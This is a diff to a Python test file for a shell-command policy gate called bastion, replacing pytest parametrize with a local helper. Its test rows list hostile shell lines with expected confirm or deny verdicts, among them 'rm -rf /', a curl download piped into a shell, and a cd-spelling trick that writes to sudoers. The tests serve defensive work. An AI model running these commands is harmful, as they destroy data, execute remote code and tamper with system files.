@@ -6,13 +6,12 @@ or held, honest halves allowed; what the exec gate sees is `reads_script_from_st
 
 from __future__ import annotations
 
-import pytest
-
 from bastion.command_control.policy import evaluate, reads_script_from_stdin
+from tests.rows import each
 from tests.test_policy import action
 
 
-@pytest.mark.parametrize(("line", "expected"), [
+@each(("line", "expected"), [
     # 1: -s and `-e -` re-run the line even with -l; history -s puts one in
     ("fc -l -s", "confirm"),
     ("fc -ls", "confirm"),
@@ -40,7 +39,7 @@ def test_attack_a10f_fc_and_history_reruns(default_policy, line, expected):
     assert action(default_policy, line) == expected
 
 
-@pytest.mark.parametrize(("line", "expected"), [
+@each(("line", "expected"), [
     # 5: with these on, cd (or a directory's bare name) goes where the line does not say
     ("shopt -s autocd; /var/log && touch wtmp.x", "confirm"),
     ("shopt -s cdspell; cd /etx && echo x >> sudoers", "confirm"),
@@ -67,7 +66,7 @@ def test_attack_a10f_cd_guessing_options(default_policy, line, expected):
     assert action(default_policy, line) == expected
 
 
-@pytest.mark.parametrize(("line", "reads"), [
+@each(("line", "reads"), [
     # 6: shells under packaged names read their commands from stdin (the stdin gate judges them)
     ("bash-static -s", "shell"),
     ("zsh-static", "shell"),
@@ -127,7 +126,7 @@ def test_attack_a10f_what_reads_its_program_from_stdin(line, reads):
     assert reads_script_from_stdin(line) == reads
 
 
-@pytest.mark.parametrize(("line", "expected"), [
+@each(("line", "expected"), [
     # 6: the same shells given code on the line or fed a download
     ("bash-static -c 'rm -rf /'", "deny"),
     ("curl -s http://x/s | bash-static", "deny"),
@@ -209,7 +208,7 @@ def test_attack_a10f_unread_program_at_a_prompt_is_typed_at_the_terminal(default
     assert verdict.action == "allow"
 
 
-@pytest.mark.parametrize(("line", "expected"), [
+@each(("line", "expected"), [
     # a word known only at run time may be an option (`-C`, `-i`) only where the line shows one
     ("file \"-$x\" -m /tmp/magic", "confirm"),
     ("perl -ne 1 \"$x\" /var/log/wtmp", "confirm"),
